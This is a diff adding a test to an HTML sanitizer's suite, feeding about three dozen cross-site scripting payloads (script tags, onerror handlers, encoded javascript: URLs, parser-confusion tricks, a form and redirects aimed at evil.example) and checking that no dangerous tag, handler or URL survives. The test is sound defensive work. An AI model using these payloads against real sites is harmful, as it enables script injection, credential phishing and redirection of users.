@@ -38,6 +38,53 @@ describe('parseHtml', () => {
     expect(write(parseHtml(html))).toBe(out)
   })
 
+  it.each([
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>alert(1)</script>',
+    '<script\n>alert(1)</script\n>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="x" OnError="alert(1)">',
+    '<img/src=x/onerror=alert(1)>',
+    '<img src=x onerror\n=\nalert(1)>',
+    '<p onclick=alert(1) onmouseover="alert(1)">a</p>',
+    '<a href="javascript:alert(1)">a</a>',
+    '<a href="JaVaScRiPt:alert(1)">a</a>',
+    '<a href="  javascript:alert(1)">a</a>',
+    '<a href="java\tscript:alert(1)">a</a>',
+    '<a href="&#106;avascript:alert(1)">a</a>',
+    '<a href="&#x6A&#x61;vascript:alert(1)">a</a>',
+    '<a href="\u0001javascript:alert(1)">a</a>',
+    '<a href="vbscript:msgbox(1)">a</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    '<svg onload=alert(1)><script>alert(1)</script></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+    '<style>body{background:url(javascript:alert(1))}</style>',
+    '<p style="position:fixed;inset:0">a</p>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    '<object data="x.swf"></object><embed src="x.swf">',
+    '<form action="https://evil.example"><input name=password><button>OK</button></form>',
+    '<base href="https://evil.example/"><link rel=stylesheet href=x.css><meta http-equiv=refresh content="0;url=//evil.example">',
+    '<template><script>alert(1)</script></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<!--><script>alert(1)</script>-->',
+    '<b><i><a href="javascript:alert(1)"><table><tr><td onclick=x>a</b></i>',
+    '<p title="><script>alert(1)</script>">a</p>',
+    "<p title='\"><img src=x onerror=alert(1)>'>a</p>",
+    `${'<div>'.repeat(2000)}<script>alert(1)</script>`,
+  ])('nothing of %s runs, loads or dresses up', (html) => {
+    for (const { tag, attributes } of walk(parseHtml(html))) {
+      expect(tag).not.toMatch(/^(?:script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta|template|noscript)$/)
+      for (const [name, value] of Object.entries(attributes)) {
+        expect(name).not.toMatch(/^(?:on|style|srcdoc|xlink)/i)
+        if (name === 'href' || name === 'src') expect(value.replaceAll(/[\s\p{Cc}]/gu, '')).not.toMatch(/^(?:javascript|vbscript|data):/i)
+      }
+    }
+  })
+
   it('lets nothing dangerous through, whatever it is given', () => {
     const piece = constantFrom(
       '<script>',
